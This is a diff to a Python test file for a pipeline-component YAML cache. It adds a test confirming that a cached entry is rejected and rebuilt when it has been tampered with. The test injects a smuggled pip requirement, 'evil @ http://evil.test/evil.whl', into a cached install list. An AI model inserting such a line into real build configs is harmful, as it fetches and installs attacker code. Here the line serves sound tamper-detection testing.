@@ -40,9 +40,16 @@ def component(tmp_path: Path) -> Component:
 class Generation:
     """``YamlCache.get`` of one component, counting the times KFP compiled it."""
 
-    def __init__(self, tmp_path: Path, component: Component, folder: Path) -> None:
+    def __init__(
+        self,
+        tmp_path: Path,
+        component: Component,
+        folder: Path,
+        packages: dict[str, list[str]] | None = None,
+    ) -> None:
         self.out = tmp_path / "out"
         self.component = component
+        self.packages = packages
         self.lines: list[str] = []
         self.cache = YamlCache(folder, note=self.lines.append)
         self.key = inputs_key(kind="component", name=component.name, image=IMAGE)
@@ -50,10 +57,15 @@ class Generation:
 
     def make(self) -> Path:
         self.made += 1
-        return generate_component(self.component, IMAGE, self.out, source="src/vision.py")
+        return generate_component(
+            self.component, IMAGE, self.out, packages=self.packages, source="src/vision.py"
+        )
 
     def run(self) -> bytes:
-        check = pins_exactly(IMAGE, starts=header(self.component, "src/vision.py"))
+        installs = (self.packages or {}).get("packages_to_install", ())
+        check = pins_exactly(
+            IMAGE, starts=header(self.component, "src/vision.py"), installs=installs
+        )
         path = self.cache.get(self.key, self.out / "enhance.yaml", self.make, check)
         return path.read_bytes()
 
@@ -134,3 +146,30 @@ def test_an_unwritable_cache_generates_without_it_and_says_so_once(
     assert gen.made == 2
     assert len(gen.lines) == 1
     assert gen.lines[0].startswith(f"component cache {blocked} cannot be written")
+
+
+PACKAGES = {
+    "packages_to_install": [
+        "--no-deps",
+        "--require-hashes",
+        f"tiny @ http://127.0.0.1:8765/packages/tiny-1.0-py3-none-any.whl#sha256={'a' * 64}",
+    ],
+    "pip_index_urls": ["http://127.0.0.1:8765/simple/"],
+    "pip_trusted_hosts": ["127.0.0.1:8765"],
+}
+
+
+def test_a_packages_mode_entry_is_served_and_one_installing_more_is_rebuilt(
+    tmp_path: Path, component: Component
+) -> None:
+    gen = Generation(tmp_path, component, tmp_path / "cache", packages=PACKAGES)
+    good = gen.run()
+    assert gen.run() == good
+    assert (gen.made, gen.lines) == (1, [])
+    evil = good.replace(b"'--no-deps'", b"'--no-deps' 'evil @ http://evil.test/evil.whl'")
+    assert evil != good
+    YamlCache(tmp_path / "other")._store(gen.entry(), evil)  # an entry as kiln writes one
+    assert gen.run() == good
+    assert gen.made == 2
+    (line,) = gen.lines
+    assert "it installs other packages (evil @ http://evil.test/evil.whl)" in line
